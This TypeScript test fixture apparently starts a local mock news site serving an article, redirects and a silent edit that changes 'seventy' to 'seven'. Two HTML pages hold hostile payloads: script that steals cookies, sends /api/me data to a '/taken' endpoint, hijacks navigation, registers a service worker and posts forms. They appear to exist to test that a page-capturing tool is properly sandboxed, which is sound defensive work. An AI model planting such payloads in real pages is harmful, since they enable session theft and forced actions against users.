import { createServer, type Server } from 'node:http';
import { NEWS_PORT } from './settings.ts';

export const NEWS = `http://127.0.0.1:${NEWS_PORT}`;
export const PASSAGE = 'Officers found seventy display cards packed among two hundred and eighty kilograms of live lobsters.';
export const EDITED = PASSAGE.replace('seventy', 'seven');

const FILLER = Array.from({ length: 5 }, (_, n) => `<p>Paragraph ${n} tells what else the officers wrote down that morning at the bridge, and who signed it.</p>`).join('');

/** The article of the day, as its publisher has it now. */
export function article(passage: string): string {
  return `<!doctype html><html lang="en"><head><title>Cards among lobsters | Harbour Times</title><meta property="og:title" content="Cards among lobsters">
    <meta property="og:site_name" content="Harbour Times"><meta name="author" content="By Jane Doe"><meta property="article:published_time" content="2023-05-03T10:15:00Z">
    <link rel="canonical" href="${NEWS}/2023/05/lobsters"></head><body><nav><a href="/">Front page</a></nav>
    <article><h1>Cards among lobsters</h1><p class="byline">By Jane Doe</p><p>${passage}</p>${FILLER}</article></body></html>`;
}

/** A page that tries everything a page can. */
const HOSTILE = `<!doctype html><html><head><title>Hostile</title><script>document.cookie='taken=1';top.location='${NEWS}/taken'</script>
  <meta http-equiv="refresh" content="0;url=${NEWS}/taken"></head><body><article><h1>Hostile</h1><p>${PASSAGE}</p>${FILLER}
  <script>fetch('/api/me').then(r=>r.text()).then(t=>fetch('${NEWS}/taken?'+t))</script><img src="x" onerror="fetch('${NEWS}/taken')">
  <svg onload="fetch('${NEWS}/taken')"></svg><iframe src="javascript:top.location='${NEWS}/taken'"></iframe>
  <p><a href="javascript:top.location='${NEWS}/taken'">a link that is a script</a></p>
  <form action="/api/session/end" method="post"><button>press</button></form><object data="${NEWS}/taken"></object></article></body></html>`;

/** The five attacks, one after the other: script on our origin, cookie, service worker, form post, top navigation. */
export const ATTACKS = `<!doctype html><iframe name="aside"></iframe><form id="form" action="/api/matches" method="post" target="aside"></form><script>
  fetch('/api/me', { credentials: 'include' }); document.cookie = 'taken=1; path=/';
  try { navigator.serviceWorker.register('/worker.js').catch(() => {}); } catch {}
  document.getElementById('form').submit(); setTimeout(() => { top.location = '${NEWS}/taken'; }, 800);
</script><meta http-equiv="refresh" content="2;url=${NEWS}/taken">`;

/** A local news site: a front page, an article, an old address of it, and a hostile page. `edit` changes the article silently. */
export async function startNewsSite() {
  let passage = PASSAGE;
  const asked: string[] = [];
  const server: Server = createServer((req, res) => {
    asked.push(req.url ?? '');
    const html = (body: string) => void res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body);
    const moved = { '/old': '/older', '/older': '/2023/05/lobsters' }[req.url ?? ''];
    if (moved) res.writeHead(302, { location: moved }).end();
    else if (req.url === '/2023/05/lobsters') html(article(passage));
    else if (req.url === '/hostile') html(HOSTILE);
    else if (req.url === '/') html('<title>Harbour Times</title><p><a href="/2023/05/lobsters">Cards among lobsters</a>');
    else res.writeHead(404, { 'content-type': 'text/html' }).end('<p>nothing here');
  });
  await new Promise<void>((done) => void server.listen(NEWS_PORT, '127.0.0.1', done));
  return {
    asked,
    edit: () => {
      passage = EDITED;
    },
    close: () => new Promise<void>((done) => {
      server.closeAllConnections();
      server.close(() => done());
    }),
  };
}
